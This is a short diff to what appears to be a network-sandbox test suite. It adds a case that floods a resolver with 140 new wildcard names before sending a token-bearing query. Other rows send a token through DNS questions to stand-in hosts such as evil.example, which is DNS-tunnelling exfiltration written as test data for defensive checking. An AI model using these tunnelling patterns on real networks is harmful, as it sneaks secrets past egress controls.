@@ -117,6 +117,7 @@ def python(script, *args):
 RESOLVER = "198.18.0.1"
 LOOKUP, TYPES = ("net:lookup",), ("net:lookup", "net:types")
 LONG = ".".join(["a" * 50] * 2)
+MANY = 140  # more new names than a wildcard lets out at once, and within the test's time
 
 NAMES = [
     Row("dns-tunnel", LOOKUP, send("udp", RESOLVER, 53, question("TOKEN.evil.example"))),
@@ -133,6 +134,9 @@ NAMES = [
         send("udp", RESOLVER, 53, question("TOKEN.a.b.c.d.wild.example"))),
     Row("dns-wildcard-long", LOOKUP,
         send("udp", RESOLVER, 53, question(f"TOKEN.{LONG}.wild.example"))),
+    Row("dns-wildcard-many", ("net:newnames",), send("udp", RESOLVER, 53, *(
+        ("+" if i else "", question(f"n{i}.wild.example")) for i in range(MANY)),
+        ("+", question("TOKEN.wild.example")))),
     Row("host-name", (*LOOKUP, "net:connect", "net:dial"),
         send("tcp", "host.purple.internal", 9000, "TOKEN")),
     Row("dns-reverse", TYPES,
